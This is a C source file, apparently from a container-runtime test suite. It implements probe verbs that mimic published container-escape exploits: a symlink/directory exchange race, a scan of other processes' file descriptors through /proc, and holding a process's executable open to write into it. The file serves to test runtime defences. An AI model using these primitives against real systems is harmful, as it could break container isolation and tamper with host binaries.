/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The verbs of probe that are no friends of the runtime: a process of the container that looks into every other one,
 * that keeps the runtime's binary open, that exchanges a directory for a symlink in a loop. Each does what the published
 * exploits did, and says how far it got.
 */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2U /* RENAME_EXCHANGE of renameat2(2) */

static volatile sig_atomic_t over;

static void end(int sig)
{
	(void)sig;
	over = 1;
}

/* Says "ready" and lets SIGTERM, or 60 seconds, end the loop that follows. */
static void begin(void)
{
	signal(SIGTERM, end);
	signal(SIGALRM, end);
	alarm(60);
	printf("ready\n");
	fflush(stdout);
}

/* probe swap A B: exchanges the two until SIGTERM. */
static int attack_swap(int argc, char **argv)
{
	unsigned long n = 0;

	(void)argc;
	begin();
	while (!over) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], EXCHANGE) < 0)
			return probe_fails(argv[0], argv[1]);
		n++;
	}
	printf("swapped=%lu\n", n);
	return 0;
}

/* How many descriptors of other processes could be followed, and how many not. */
struct pry {
	unsigned long denied, opened;
};

static void pry_fds(DIR *d, struct pry *seen)
{
	struct dirent *e;

	while ((e = readdir(d))) {
		char to[256];
		ssize_t n = readlinkat(dirfd(d), e->d_name, to, sizeof(to) - 1);

		if (e->d_name[0] == '.')
			continue;
		to[n > 0 ? n : 0] = 0;
		if (n >= 0 && atoi(e->d_name) > 2)
			printf("leak=%s %s\n", e->d_name, to);
		else if (n >= 0)
			seen->opened++;
		else if (errno == EACCES)
			seen->denied++;
	}
}

/* probe pry: until SIGTERM, follows the descriptors of each other process in /proc; those above stderr are told. */
static int attack_pry(int argc, char **argv)
{
	struct pry seen = {0};
	char own[16];

	(void)argc;
	snprintf(own, sizeof(own), "%d", getpid());
	begin();
	while (!over) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		if (!proc)
			return probe_fails(argv[0], "/proc");
		while ((e = readdir(proc))) {
			char path[300];
			DIR *d;

			if (atoi(e->d_name) < 2 || !strcmp(e->d_name, own))
				continue;
			snprintf(path, sizeof(path), "/proc/%s/fd", e->d_name);
			d = opendir(path);
			if (!d && errno == EACCES)
				seen.denied++;
			if (!d)
				continue;
			pry_fds(d, &seen);
			closedir(d);
		}
		closedir(proc);
	}
	printf("denied=%lu\nopened=%lu\n", seen.denied, seen.opened);
	return 0;
}

/* probe hold-exe PID FILE: holds the program of a process open, waits for FILE (a fifo) to be opened, and then tries to
 * open it for writing, for as long as it is busy (5 s at most). */
static int attack_hold_exe(int argc, char **argv)
{
	struct timespec now, until;
	char path[64];
	int fd, out;
	FILE *go;

	(void)argc;
	snprintf(path, sizeof(path), "/proc/%s/exe", argv[1]);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return probe_fails(argv[0], path);
	printf("held\n");
	fflush(stdout);
	go = fopen(argv[2], "re");
	if (!go)
		return probe_fails(argv[0], argv[2]);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	clock_gettime(CLOCK_MONOTONIC, &until);
	do {
		out = open(path, O_WRONLY | O_CLOEXEC);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (out < 0 && errno == ETXTBSY && now.tv_sec < until.tv_sec + 5);
	if (out < 0)
		return probe_fails(argv[0], "open for writing");
	printf("written=%zd\n", write(out, "#", 1));
	return 0;
}

const struct probe_verb probe_attack[] = {
	{"swap", "A B", 2, attack_swap},
	{"pry", "", 0, attack_pry},
	{"hold-exe", "PID FIFO", 2, attack_hold_exe},
	{0},
};
